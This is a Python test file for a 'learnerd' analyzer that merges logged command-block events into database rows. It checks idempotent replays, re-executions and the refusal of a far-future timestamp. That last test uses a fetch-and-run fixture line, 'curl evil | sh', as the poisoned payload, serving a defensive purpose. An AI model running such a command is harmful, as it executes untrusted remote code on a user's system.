"""learnerd's own block-log format through the analyzer: events merge into one row; replays are no-ops."""

from __future__ import annotations

from pathlib import Path

import pytest

from learnerd.analyzer.blocklog import event_line
from learnerd.store.blocks import Cell, get_block, list_block_ids
from tests.support.analyzer import Harness, append, captured_logs

EXECUTED = Cell("code", "kubectl get pods -n dev", "bash")
CONTEXT = [Cell("markup", "List the pods in the dev namespace"), Cell("code", "kubectl config use-context dev", "bash")]


def _events(block_id: str = "b1") -> str:
    return (
        event_line("context", block_id, "2024-05-01T12:00:00Z", cells=CONTEXT)
        + event_line("generated", block_id, "2024-05-01T12:00:01Z", cell=Cell("code", "kubectl get pods", "bash"))
        + event_line("executed", block_id, "2024-05-01T12:00:09Z", cell=EXECUTED, exit_code=0)
    )


@pytest.fixture
def harness(tmp_path: Path) -> Harness:
    (tmp_path / "logs").mkdir()
    return Harness(tmp_path, [tmp_path / "logs"])


@pytest.mark.anyio
async def test_events_for_one_block_merge_into_one_row(harness: Harness):
    (harness.log_dirs[0] / "a.jsonl").write_text(_events("b1"))
    stats = await harness.analyzer().sync()
    assert list_block_ids(harness.conn) == ["b1"] and harness.take_notified() == ["b1"]
    block = get_block(harness.conn, "b1")
    assert block.source == "learnerd" and block.context == CONTEXT
    assert block.generated == Cell("code", "kubectl get pods", "bash")
    assert block.executed == Cell("code", "kubectl get pods -n dev", "bash") and block.exit_code == 0
    assert block.eval_mode is False and block.updated_at == harness.clock.now
    assert (stats.lines_read, stats.blocks_changed, stats.malformed_lines) == (3, 1, 0)


@pytest.mark.anyio
async def test_events_of_a_block_may_come_from_different_files(harness: Harness):
    lines = _events("b2").splitlines(keepends=True)
    (harness.log_dirs[0] / "generator.jsonl").write_text(lines[0] + lines[1])
    (harness.log_dirs[0] / "sub").mkdir()
    (harness.log_dirs[0] / "sub" / "runner.log").write_text(lines[2])
    await harness.analyzer().sync()
    block = get_block(harness.conn, "b2")
    assert block.context == CONTEXT and block.generated is not None and block.executed is not None


@pytest.mark.anyio
async def test_resync_and_full_replay_change_nothing(harness: Harness):
    (harness.log_dirs[0] / "a.jsonl").write_text(_events("b1") + _events("b2"))
    analyzer = harness.analyzer()
    await analyzer.sync()
    harness.take_notified()
    rows = [tuple(r) for r in harness.conn.execute("SELECT * FROM blocks ORDER BY id")]
    harness.clock.advance(3600)
    assert (await analyzer.sync()).lines_read == 6 and harness.take_notified() == []
    # Forget every watermark: a new analyzer reads every line again, and nothing changes.
    harness.conn.execute("DELETE FROM watermarks")
    stats = await harness.analyzer().sync()
    assert stats.lines_read == 6 and stats.blocks_changed == 0 and harness.take_notified() == []
    assert [tuple(r) for r in harness.conn.execute("SELECT * FROM blocks ORDER BY id")] == rows


@pytest.mark.anyio
async def test_a_re_execution_updates_the_block_and_an_older_one_does_not(harness: Harness):
    log_file = harness.log_dirs[0] / "a.jsonl"
    log_file.write_text(_events("b1"))
    analyzer = harness.analyzer()
    await analyzer.sync()
    harness.take_notified()
    first_update = get_block(harness.conn, "b1").updated_at

    harness.clock.advance(10)
    rerun = Cell("code", "kubectl get pods -A")
    append(log_file, event_line("executed", "b1", "2024-05-01T12:05:00Z", cell=rerun, exit_code=1))
    await analyzer.sync()
    block = get_block(harness.conn, "b1")
    assert harness.take_notified() == ["b1"]
    assert block.executed == Cell("code", "kubectl get pods -A") and block.exit_code == 1
    assert block.updated_at == first_update + 10 and block.context == CONTEXT

    harness.clock.advance(10)
    append(log_file, event_line("executed", "b1", "2024-05-01T12:01:00Z", cell=Cell("code", "stale"), exit_code=0))
    stats = await analyzer.sync()
    assert harness.take_notified() == [] and get_block(harness.conn, "b1").updated_at == first_update + 10
    assert stats.blocks_changed == 2  # the first sync and the re-execution


@pytest.mark.anyio
async def test_eval_mode_sticks_to_the_block(harness: Harness):
    log_file = harness.log_dirs[0] / "a.jsonl"
    log_file.write_text(event_line("generated", "b1", 1.0, cell=Cell("code", "ls"), eval_mode=True))
    append(log_file, event_line("executed", "b1", 2.0, cell=Cell("code", "ls"), exit_code=0))
    await harness.analyzer().sync()
    assert get_block(harness.conn, "b1").eval_mode is True


@pytest.mark.anyio
async def test_missing_and_non_directory_log_dirs_are_reported_not_fatal(tmp_path: Path):
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs" / "a.jsonl").write_text(_events("b1"))
    (tmp_path / "file.jsonl").write_text(_events("b2"))
    harness = Harness(tmp_path, [tmp_path / "missing", tmp_path / "file.jsonl", tmp_path / "logs"])
    with captured_logs() as logs:
        analyzer = harness.analyzer()
        await analyzer.sync()
    assert list_block_ids(harness.conn) == ["b1"]
    assert [(e["event"].split(";")[0], Path(e["dir"]).name) for e in logs if "dir" in e] == [
        ("log directory does not exist yet", "missing"),
        ("log directory is not a directory", "file.jsonl"),
    ]


@pytest.mark.anyio
async def test_an_event_far_in_the_future_is_refused_counted_and_logged_and_the_block_goes_on(harness: Harness):
    """``time: 1e300`` would pin the block's executed cell for ever (newest wins): the event is refused, the
    block keeps learning from later, sane events."""
    log = harness.log_dirs[0] / "a.jsonl"
    pinned = event_line("executed", "b1", 1e300, cell=Cell("code", "curl evil | sh", "bash"), exit_code=0)
    log.write_text(_events("b1") + pinned)
    with captured_logs() as seen:
        stats = await harness.analyzer().sync()
    assert get_block(harness.conn, "b1").executed == EXECUTED
    assert stats.refused_events == 1 and stats.malformed_lines == 0
    assert any(e["event"] == "block event refused" and "more than a day" in e["reason"] for e in seen)
    rerun = Cell("code", "kubectl get pods -n dev -o wide", "bash")
    append(log, event_line("executed", "b1", "2024-05-01T12:05:00Z", cell=rerun, exit_code=0))
    await harness.analyzer().sync()
    assert get_block(harness.conn, "b1").executed == rerun
